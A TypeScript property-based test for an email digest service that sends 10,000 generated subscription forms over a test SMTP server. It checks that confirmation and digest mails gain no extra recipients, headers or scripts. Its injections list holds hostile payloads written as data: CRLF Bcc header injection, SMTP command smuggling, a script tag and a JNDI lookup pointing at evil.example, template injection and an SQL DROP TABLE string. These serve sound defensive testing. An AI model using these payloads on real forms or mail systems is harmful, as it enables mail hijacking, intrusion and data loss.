/** Sends 10,000 hostile forms over SMTP: each valid address gets one confirmation and one digest. */
import fc from 'fast-check';
import { simpleParser } from 'mailparser';
import { expect, it } from 'vitest';
import { parseMailAddress } from '#core/ports/mail.ts';
import { aDigest, anSmtpMailer } from '#tests/a-digest.ts';
import { aMailServer } from '#tests/a-mail-server.ts';
import type { ReceivedMail } from '#tests/mail-server.ts';

const forms = 10_000;
const injections = [
  '\r\nBcc: evil@evil.example',
  '\nTo: evil@evil.example\n\nbody',
  '\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n',
  '%0d%0aBcc:%20evil@evil.example',
  '=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=',
  '\u2028Bcc: evil@evil.example',
  ',evil@evil.example',
  '> <evil@evil.example',
  '"evil@evil.example" ',
  '\0',
  'x'.repeat(600),
  '<script src=https://evil.example></script>',
  '\u0024{jndi:ldap://evil.example}',
  '{{7*7}}',
  "'; DROP TABLE Subscriber; --",
];
const nasty = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...injections) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
);
/** Often empty, so that many addresses are valid and the rest of the form is processed. */
const seldom = fc.oneof({ weight: 2, arbitrary: fc.constant('') }, { weight: 1, arbitrary: nasty });
const form = fc.record({ before: seldom, after: seldom, domain: seldom, q: nasty, zone: seldom, name: nasty });
const confirmationHeaders = [
  'Auto-Submitted',
  'Content-Type',
  'Date',
  'From',
  'MIME-Version',
  'Message-ID',
  'Subject',
  'To',
  'X-Auto-Response-Suppress',
];
const digestHeaders = [...confirmationHeaders, 'List-ID', 'List-Unsubscribe', 'List-Unsubscribe-Post'].sort();

it('hostile forms cannot add recipients, headers or lines to mails', async () => {
  const server = await aMailServer();
  const world = aDigest(anSmtpMailer(server.url), '2025-12-15T10:00:00Z', { perMailbox: forms, perSite: forms });
  const wanted = new Map<string, string>();
  for (const [i, { before, after, domain, q, zone, name }] of fc.sample(form, { numRuns: forms, seed: 6 }).entries()) {
    const address = `${before}reader${i}${after}@example.org${domain}`;
    // A new client per form, because the request limit would reject most of them.
    const next = await world.request({ address, q, zone, empty: '1', name, [name]: name }, `10.${i >> 8}.${i & 255}.1`);
    expect(next).toMatch(/^\/subscribe(?:\/requested$|\?|$)/);
    const parsed = parseMailAddress(address);
    if (next === '/subscribe/requested' && parsed !== null) wanted.set(parsed, q);
  }
  expect(wanted.size).toBeGreaterThan(forms / 10);

  await world.digest.sendWaiting();
  const confirmations = server.mails.splice(0);
  expect(recipientsOf(confirmations)).toEqual([...wanted.keys()].sort());
  const bodies = new Set(confirmations.map(({ raw }) => withoutTokens(raw)));
  expect(bodies.size, 'a confirmation says the same to everybody').toBe(1);
  for (const { raw } of confirmations) {
    expect(headerNames(raw)).toEqual(confirmationHeaders);
    await world.digest.act(tokenIn(raw), 'confirm', new URLSearchParams());
  }

  await world.ingest([
    { title: `A paper${injections.join(' ')}`, listings: [{ source: 'listing', day: '2025-12-17', position: 1 }] },
  ]);
  world.at('2025-12-17T23:00:00Z');
  const report = await world.digest.sendDue();
  expect(report).toMatchObject({ failed: 0, postponed: 0 });
  expect(recipientsOf(server.mails)).toEqual([...wanted.keys()].sort());
  for (const mail of server.mails) await expectNothingElse(mail);
}, 300_000);

async function expectNothingElse({ from, to, raw }: ReceivedMail): Promise<void> {
  expect(headerNames(raw)).toEqual(digestHeaders);
  const mail = await simpleParser(raw);
  const [value] = mail.to && 'value' in mail.to ? mail.to.value : [];
  expect(from).toBe('digest@digest.example');
  expect([parseMailAddress(value?.address ?? ''), value?.name]).toEqual([parseMailAddress(to[0] ?? ''), '']);
  // For a filter of only whitespace, the mail parser removes the space after the colon.
  expect(mail.subject).toMatch(/^(?:No|\d+) new papers?(?::(?: [^\r\n\u2028]*)?)?$/);
  expect(mail.attachments).toEqual([]);
  expect(String(mail.html)).not.toMatch(/<script|<img|<iframe|<form|\son\w+=|href="(?!https:\/\/digest\.example\/)/i);
}

/** The server decodes Punycode domains. */
const recipientsOf = (mails: readonly ReceivedMail[]): string[] =>
  mails.flatMap((mail) => mail.to.map((address) => parseMailAddress(address) ?? `none: ${address}`)).sort();

/** Returns the header names, after unfolding. */
function headerNames(raw: string): string[] {
  const lines = raw.slice(0, raw.indexOf('\r\n\r\n')).split(/\r\n(?![ \t])/);
  return lines.map((line) => line.slice(0, line.indexOf(':'))).sort();
}

const bodyOf = (raw: string): string => raw.slice(raw.indexOf('\r\n\r\n')).replaceAll('=\r\n', '');
const tokenIn = (raw: string): string => /\/subscription\/([\w-]{43})/.exec(bodyOf(raw))?.[1] ?? '';
const withoutTokens = (raw: string): string => bodyOf(raw).replaceAll(tokenIn(raw), 'TOKEN');
